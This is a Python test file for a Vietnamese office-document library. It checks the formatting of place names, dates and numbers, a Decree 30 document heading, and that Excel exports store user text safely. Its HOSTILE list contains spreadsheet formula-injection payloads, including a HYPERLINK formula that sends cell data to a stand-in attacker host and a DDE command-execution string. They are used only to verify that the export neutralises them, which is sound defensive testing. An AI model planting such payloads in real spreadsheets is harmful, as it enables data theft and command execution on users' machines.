"""The shared Word helpers: place names, Vietnamese dates and numbers, the Decree 30 heading."""

from __future__ import annotations

import datetime as dt
import io

from docx import Document

from tinhso.core import documents


def test_place_names_keep_only_the_proper_name() -> None:
    assert documents.place_of("Tỉnh Hưng Yên") == "Hưng Yên"
    assert documents.place_of("Thành phố Hồ Chí Minh") == "Hồ Chí Minh"
    assert documents.place_of("Phường Hiến Nam") == "Hiến Nam"
    assert documents.place_of("Xã") == "Xã"


def test_dates_and_numbers_are_written_the_vietnamese_way() -> None:
    assert documents.vn_date(dt.date(2026, 3, 2)) == "02/03/2026"
    assert documents.vn_date(None) == ""
    assert documents.place_date_line("Hưng Yên", dt.date(2026, 2, 5)) == "Hưng Yên, ngày 05 tháng 02 năm 2026"
    assert documents.place_date_line("Hưng Yên", dt.date(2026, 7, 15)) == "Hưng Yên, ngày 15 tháng 7 năm 2026"
    assert documents.vn_number("17500.500") == "17.500,5"


def test_the_heading_carries_the_issuer_the_motto_the_reference_and_the_place_date() -> None:
    document = documents.new_document()
    issuer = documents.Issuer(
        parent_name="Ủy ban nhân dân tỉnh Hưng Yên", name="Sở Tư pháp", place="Hưng Yên", collective=False
    )
    documents.heading(document, issuer, "Số: 12/TB-STP", dt.date(2026, 3, 2))
    buffer = io.BytesIO()
    document.save(buffer)
    table = Document(io.BytesIO(buffer.getvalue())).tables[0]
    left, right = (cell.text.split("\n") for cell in table.rows[0].cells)
    assert left[:2] == ["ỦY BAN NHÂN DÂN TỈNH HƯNG YÊN", "SỞ TƯ PHÁP"]
    assert right[:2] == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc"]
    assert [cell.text for cell in table.rows[1].cells] == ["Số: 12/TB-STP", "Hưng Yên, ngày 02 tháng 3 năm 2026"]


# --- Excel: user text stays text ---------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0+1",
    "Nguyễn Văn An",
    "",
]


def test_text_is_written_as_text_and_reads_back_exactly() -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    documents.xlsx_append(sheet, HOSTILE)
    documents.xlsx_cell(sheet, 2, 1, "=1+1")
    documents.xlsx_cell(sheet, 2, 2, 7)
    documents.xlsx_cell(sheet, 2, 3, dt.date(2026, 3, 2))
    documents.xlsx_cell(sheet, 2, 4, "=A\x01\x1fB")  # XML cannot hold these: dropped, not a crash
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [cell for row in read.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value is not None and cell.data_type == "f"] == []
    assert [cell.value for cell in read[1]] == [value or None for value in HOSTILE]
    assert [read["A2"].value, read["B2"].value, read["C2"].value, read["D2"].value] == [
        "=1+1",
        7,
        dt.datetime(2026, 3, 2),
        "=AB",
    ]
    assert (read["B2"].data_type, read["C2"].data_type) == ("n", "d")
    # What a spreadsheet would evaluate when typed is marked as text (the "'" prefix Excel shows);
    # ordinary text is left alone.
    assert [cell.quotePrefix for cell in read[1]] == [True] * 9 + [False, False]
    assert read["A2"].quotePrefix is True


def test_no_cell_of_the_xml_is_a_formula() -> None:
    """What Excel and LibreOffice read: no <f> element, the text in the cell."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    documents.xlsx_append(book.active, HOSTILE[:2])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<t>=cmd|' /C calc'!A0</t>" in xml
